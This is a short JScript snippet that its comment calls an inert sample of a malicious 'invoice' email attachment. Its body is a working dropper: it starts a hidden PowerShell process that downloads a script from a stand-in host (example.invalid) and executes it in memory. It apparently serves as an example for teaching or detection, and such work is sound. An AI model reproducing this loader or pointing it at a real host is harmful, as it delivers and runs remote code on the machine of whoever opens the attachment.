// "invoice" attachment: a script dropper (inert sample for the example)
var sh = new ActiveXObject("WScript.Shell");
sh.Run("powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/p')", 0);
